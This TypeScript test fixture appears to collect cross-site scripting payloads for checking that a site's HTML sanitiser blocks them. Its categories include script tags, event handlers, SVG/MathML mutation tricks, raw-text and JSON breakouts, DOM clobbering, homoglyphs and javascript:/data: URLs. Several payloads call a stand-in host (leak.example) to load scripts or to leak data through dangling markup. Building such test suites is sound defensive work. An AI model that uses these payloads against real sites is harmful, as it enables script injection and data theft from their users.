// Ways in which text became a script on sites of this kind, by the context that it breaks out of. Each calls `ran()` if
// it succeeds, or requests a host that nobody should contact (watch-for-scripts.ts). Our own list, after the HTML
// standard's parsing rules.

/** A host that we never use. */
export const LEAK = 'leak.example'

const TAB = '\t'
const LINE = '\u2028'

/** For text between tags. */
const tags = [
  '<script>ran()</script>',
  '<SCRIPT>ran()</SCRIPT>',
  '<script/x>ran()</script>',
  '<script\n>ran()</script\n>',
  `<script src=//${LEAK}/a.js></script>`,
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<<script>ran()//<</script>',
  '<script>ran()',
  '<script type=module>ran()</script>',
  `<script type=importmap>{"imports":{"a":"//${LEAK}/b.js"}}</script>`,
]
const handlers = [
  '<img src=x onerror=ran()>',
  '<img/src=x/onerror=ran()>',
  '<img src=x onerror="ran()">',
  "<img src='x'onerror='ran()'>",
  '<img src=x onerror=`ran()`>',
  '<IMG SRC=x OnErRoR=ran()>',
  '<body onload=ran()>',
  '<video src=x onerror=ran()></video>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<p tabindex=1 autofocus onfocus=ran()>x',
  '<marquee onstart=ran()>x</marquee>',
  '<p style="animation:a 1s" onanimationstart=ran()>',
  '<div popover id=p onbeforetoggle=ran()>',
  '<link rel=stylesheet href=data:, onload=ran()>',
  '<style onload=ran()></style>',
  '<img src=x onerror=eval(atob("cmFuKCk="))>',
  '<img src=x onerror=&#114;an()>',
]
const foreign = [
  '<svg onload=ran()>',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><script href=data:,ran() />',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>',
  '<svg><set attributeName=href to=javascript:ran()></svg>',
  '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<math href=javascript:ran()>x</math>',
  '<math><annotation-xml encoding=text/html><img src=x onerror=ran()>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
  '<table><caption><svg><title><img src=x onerror=ran()>',
]
/** Text that a second parsing reads differently than the first. */
const rawText = [
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</style><script>ran()</script>',
  '</noscript><script>ran()</script>',
  '</template><script>ran()</script>',
  '</iframe><script>ran()</script>',
  '</xmp><script>ran()</script>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '<template shadowrootmode=open><script>ran()</script></template>',
  '<style><p title="</style><img src=x onerror=ran()>">',
  '<textarea><p title="</textarea><img src=x onerror=ran()>">',
  '<title><p title="</title><img src=x onerror=ran()>">',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<noembed><p title="</noembed><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  '<!-- --!><img src=x onerror=ran()>',
  '<![CDATA[><img src=x onerror=ran()>]]>',
  '<?x><img src=x onerror=ran()>?>',
  '<plaintext><img src=x onerror=ran()>',
  '&lt;img src=x onerror=ran()&gt;',
  '&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;',
]
/** For text within quotes, a script, a style sheet, a template. */
const quotes = [
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '`><script>ran()</script>',
  '" autofocus onfocus="ran()',
  "' autofocus onfocus='ran()",
  '" onerror=ran() x="',
  '"/onload=ran()/x="',
  'x onerror=ran()',
  "');ran();('",
  '");ran();("',
  '`;ran();`',
  `\${ran()}`,
  '{{constructor.constructor("ran()")()}}',
  '\\"});ran();//',
  '*/ran();/*',
]
const withinJson = [
  '</script><script>ran()</script>',
  '</ScRiPt ><script>ran()</script>',
  '<!--<script>',
  '<!--<script>ran()</script>-->',
  `"}]${LINE}ran();//`,
  `${LINE}ran()\u2029ran()`,
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '"]);ran();streamController.enqueue("',
  '{"__proto__":{"onload":"ran()"}}',
  ']]></script><script>ran()</script>',
]
const styles = [
  `<style>@import "//${LEAK}/a.css"</style>`,
  `<p style="background:url(//${LEAK}/b)">`,
  `<link rel=stylesheet href=//${LEAK}/c.css>`,
  `<link rel=preload as=script href=//${LEAK}/d.js>`,
  `";background:url(//${LEAK}/e);x:"`,
  `}*{background:url(//${LEAK}/f)}`,
  '<p style="width:expression(ran())">',
]
const elsewhere = [
  `<meta http-equiv=refresh content="0;url=//${LEAK}/">`,
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  `<base href=//${LEAK}/>`,
  `<form action=//${LEAK}/ id=f><button>x</button></form>`,
  '<form><button formaction=javascript:ran()>x</button></form>',
  '<isindex action=javascript:ran() type=image>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src=javascript:parent.ran()></iframe>',
  `<iframe src=//${LEAK}/></iframe>`,
  '<iframe src=data:text/html,<script>parent.ran()</script>></iframe>',
  `<object data=//${LEAK}/></object>`,
  '<embed src=javascript:ran()>',
  `<img src='http://${LEAK}/?`,
  `<a href="http://${LEAK}/?`,
  `<img src=x ping=//${LEAK}/ lowsrc=javascript:ran()>`,
  `<a href=/ ping=//${LEAK}/>x</a>`,
  `<a href="\\\\${LEAK}">x</a>`,
]
/** Names that a page's own scripts look up in the document. */
const clobbering = [
  '<img name=getElementById>',
  '<form name=body><input name=firstChild></form>',
  '<a id=__reactRouterContext></a><a id=__reactRouterContext name=stream>',
  '<img name=currentScript><img id=main>',
  '<form id=root><input name=attributes><input name=nodeName>',
]
const alikes = [
  '＜script＞ran()＜/script＞',
  'ʺ＞＜svg onload＝ran()＞',
  '‹script›ran()‹/script›',
  '<ſcript>ran()</ſcript>',
  '<ımg src=x onerror=ran()>',
  '\ufeff<script>ran()</script>',
  '%3Cscript%3Eran()%3C/script%3E',
  '\u202e<script>ran()</script>',
  'Ã‚Â¼scriptÃ‚Â¾ran()',
]

/** Addresses: none of them may become a link. */
export const ADDRESSES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  `java${TAB}script:ran()`,
  'java\nscript:ran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  '&#x6A&#x61vascript:ran()',
  'javascript://%0aran()',
  'javascript://https://example.com/%0aran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=ran()>',
  'vbscript:ran()',
  'blob:null/x',
  'view-source:javascript:ran()',
]

/** What any text may contain. */
export const VECTORS: readonly string[] = [
  ...[tags, handlers, foreign, rawText, quotes, withinJson, styles, elsewhere, clobbering, alikes].flat(),
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
]

const PICTURE = 'https://pictures.example.com'
/** Valid addresses that could break out of an attribute; together with invalid ones. */
export const OF_ADDRESSES: readonly string[] = [
  ...ADDRESSES,
  `${PICTURE}/"onerror="ran()`,
  `${PICTURE}/'onerror='ran()`,
  `${PICTURE}/"><script>ran()</script>`,
  `${PICTURE}/</script><script>ran()</script>`,
  `${PICTURE}/);background:url(//${LEAK}/)`,
  `${PICTURE}/ onerror=ran() `,
  `https://${LEAK}@pictures.example.com/`,
  `//${LEAK}/`,
  `/\\${LEAK}/`,
  `\\\\${LEAK}\\`,
  `https:${LEAK}`,
  `https://a;script-src-elem *`,
]

/** Ends whatever an earlier vector has opened, so that each is independent. */
const END = `"'>-->]]></title></textarea></style></script></noscript></template></xmp></svg></math>\n`

/** The fewest texts of this length that contain all vectors that fit, each whole. */
export function packed(vectors: readonly string[], most: number, between = ' '): string[] {
  const texts: string[] = []
  for (const vector of vectors) {
    if (vector.length > most) continue
    const longer = texts.length > 0 ? `${texts.at(-1)}${between}${vector}` : vector
    if (texts.length > 0 && longer.length <= most) texts[texts.length - 1] = longer
    else texts.push(vector)
  }
  return texts
}

/** All of them in one text. */
export const ALL_AT_ONCE = VECTORS.join(END)
